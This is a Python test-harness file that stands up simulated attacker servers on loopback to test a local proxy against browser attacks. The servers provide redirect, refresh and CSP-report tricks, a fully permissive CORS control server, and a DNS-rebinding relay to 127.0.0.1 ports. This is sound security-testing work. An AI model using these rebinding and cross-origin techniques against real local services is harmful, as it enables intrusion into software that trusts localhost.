"""The attacker's servers: server.py --proxy PORT --record FILE --out DIR

All on loopback and on free ports:
  page     http://evil.example and http://localhost: the attack pages, redirects, what they report
  control  a server that knows no better: answers everything with 200, lets every origin read it
  rebound  http://rebind.example: serves the attack page, and is then "rebound": it hands every other
           connection to the port of 127.0.0.1 that Host names, byte for byte

In DIR: `ports` once all listen; `plan`, `reports` and `seen` as lines of JSON;
`pages-TARGET` and `typed-TARGET` when a browser got to the end.
"""

import argparse
import json
import pathlib
import re
import socket
import socketserver
import threading
import time
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HERE = pathlib.Path(__file__).parent
FILES = {
    "/attack.html": "text/html; charset=utf-8",
    "/attack.js": "text/javascript",
    "/worker.js": "text/javascript",
}
TYPED = "typed or clicked link, redirect 302 /shutdown"

arguments = argparse.ArgumentParser()
arguments.add_argument("--proxy", type=int, required=True)
arguments.add_argument("--record", type=pathlib.Path, required=True)
arguments.add_argument("--out", type=pathlib.Path, required=True)
arguments = arguments.parse_args()

lock = threading.Lock()
current = {}  # by target: [set, attack]
harmed = None
waits_left = 100  # tenths of a second, in all
seen = set()  # (set, attack) of which something got to the control
steps = {target: ["evil", "local", "rebound"] for target in ("control", "proxy")}
ports = {"proxy": arguments.proxy}


def append(name, what):
    with lock, (arguments.out / name).open("a") as file:
        file.write(json.dumps(what) + "\n")


def harm():
    """What an attack has done to the proxy, or None."""
    if arguments.record.exists() and arguments.record.stat().st_size:
        return "a request went upstream"
    try:
        socket.create_connection(("127.0.0.1", ports["proxy"]), 2).close()
    except OSError:
        return "the proxy is gone"
    return None


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        return self.rfile.read(int(self.headers.get("content-length", 0)))

    def answer(self, status, headers=(), body=b""):
        self.send_response(status)
        for name, value in headers:
            self.send_header(name, value)
        self.send_header("content-length", str(len(body)))
        self.send_header("cache-control", "no-store")
        # The next attack is to open its own connection.
        self.send_header("connection", "close")
        self.close_connection = True
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class Page(Handler):
    @property
    def home(self):
        return f"http://evil.example:{ports['page']}"

    def serve(self):
        body = self.body()
        url = urllib.parse.urlsplit(self.path)
        to = urllib.parse.parse_qs(url.query).get("to", [""])[0]
        html = ("content-type", "text/html")
        if url.path in FILES:
            return self.answer(200, [("content-type", FILES[url.path])], (HERE / url.path[1:]).read_bytes())
        if match := re.fullmatch(r"/redirect/(30[27])", url.path):
            cors = [("access-control-allow-origin", self.headers.get("origin", "*"))]
            return self.answer(int(match[1]), [("location", to), *cors])
        if url.path == "/refresh":
            return self.answer(200, [("refresh", f"0;url={to}"), html], b"wait")
        if url.path == "/report-uri":
            policy = ("content-security-policy", f"img-src 'none'; report-uri {to}")
            return self.answer(200, [html, policy], b"<img src=/forbidden>")
        if match := re.fullmatch(r"/next/(control|proxy)", url.path):
            return self.next(match[1])
        if match := re.fullmatch(r"/typed/(control|proxy)", url.path):
            current[match[1]] = ["typed", TYPED]
            append("plan", {"target": match[1], "set": "typed", "attacks": [TYPED]})
            threading.Thread(target=self.after_typed, args=(match[1],)).start()
            return self.answer(302, [("location", f"http://127.0.0.1:{ports[match[1]]}/shutdown")])
        if url.path in ("/plan", "/start", "/report"):
            what = json.loads(body)
            if url.path == "/start":
                current[what["target"]] = [what["set"], what["attack"]]
            elif url.path == "/plan":
                append("plan", what)
            else:
                self.report(what)
            return self.answer(204, [("access-control-allow-origin", "*")])
        return self.answer(404)

    do_GET = do_POST = do_HEAD = do_OPTIONS = serve

    def report(self, what):
        # Some attacks have no end that the page can see. Not for ever: it may have been stopped.
        global waits_left
        for _ in range(20):
            if what["target"] == "proxy" or not what["must"] or (what["set"], what["attack"]) in seen:
                break
            if waits_left:
                waits_left -= 1
                time.sleep(0.1)
        append("reports", what | {"harm": self.harm() if what["target"] == "proxy" else None})

    @staticmethod
    def harm():
        """What this attack has done, or that an earlier one had."""
        global harmed
        now = harm()
        if harmed:
            return f"{harmed} since an earlier attack"
        harmed = now
        return now

    def after_typed(self, target):
        time.sleep(1.5)
        what = {"target": target, "set": "typed", "attack": TYPED, "must": True, "saw": "(no page)"}
        self.report(what)
        (arguments.out / f"typed-{target}").write_text("done\n")

    def next(self, target):
        with lock:
            which = steps[target].pop(0) if steps[target] else None
        if not which:
            (arguments.out / f"pages-{target}").write_text("done\n")
            return self.answer(200, [("content-type", "text/plain")], b"done")
        origin = {
            "evil": self.home,
            "local": f"http://localhost:{ports['page']}",
            "rebound": f"http://rebind.example:{ports[target]}",
        }[which]
        query = {"home": self.home, "target": target, "port": ports[target], "set": which}
        self.answer(302, [("location", f"{origin}/attack.html?{urllib.parse.urlencode(query)}")])


class Control(Handler):
    def serve(self):
        self.body()
        headers = {name.lower(): value for name, value in self.headers.items()}
        during = current.get("control")
        seen.add(tuple(during or ()))
        append("seen", headers | {"during": during, "method": self.command, "path": self.path})
        kind = "text/plain"
        if "event-stream" in self.headers.get("accept", ""):
            kind = "text/event-stream"
        self.answer(
            200,
            [
                ("content-type", kind),
                ("access-control-allow-origin", self.headers.get("origin", "*")),
                ("access-control-allow-credentials", "true"),
                ("access-control-allow-methods", "*, POST"),
                ("access-control-allow-headers", self.headers.get("access-control-request-headers", "*")),
                ("access-control-allow-private-network", "true"),
            ],
            b"the control answers everything\n\n",
        )

    do_GET = do_POST = do_HEAD = do_OPTIONS = serve


class Rebound(socketserver.BaseRequestHandler):
    def handle(self):
        head = b""
        while b"\r\n\r\n" not in head:
            data = self.request.recv(65536)
            if not data:
                return
            head += data
        path = head.split(b" ")[1].decode("latin-1").split("?")[0]
        if path in FILES:
            body = (HERE / path[1:]).read_bytes()
            answer = f"HTTP/1.1 200 OK\r\ncontent-type: {FILES[path]}\r\ncontent-length: {len(body)}\r\n"
            self.request.sendall(f"{answer}connection: close\r\n\r\n".encode() + body)
            return
        named = re.search(rb"\r\nhost: rebind\.example:(\d+)\r\n", head, re.IGNORECASE)
        port = int(named[1]) if named else 0
        if port not in (ports["control"], ports["proxy"]):
            return
        try:
            target = socket.create_connection(("127.0.0.1", port))
        except OSError:
            return
        with target:
            target.sendall(head)
            back = threading.Thread(target=self.copy, args=(target, self.request), daemon=True)
            back.start()
            self.copy(self.request, target)
            back.join(5)

    @staticmethod
    def copy(source, sink):
        try:
            while data := source.recv(65536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass


class Server(ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64


class Server6(Server):
    address_family = socket.AF_INET6


def start(server):
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


ports["page"] = start(Server(("127.0.0.1", 0), Page))
ports["control"] = start(Server(("127.0.0.1", 0), Control))
try:
    start(Server6(("::1", ports["control"]), Control))
except OSError:
    pass  # no IPv6: that attack is then one that the control does not see
ports["rebound"] = start(Server(("127.0.0.1", 0), Rebound))
(arguments.out / "ports.new").write_text(json.dumps(ports) + "\n")
(arguments.out / "ports.new").rename(arguments.out / "ports")
threading.Event().wait()
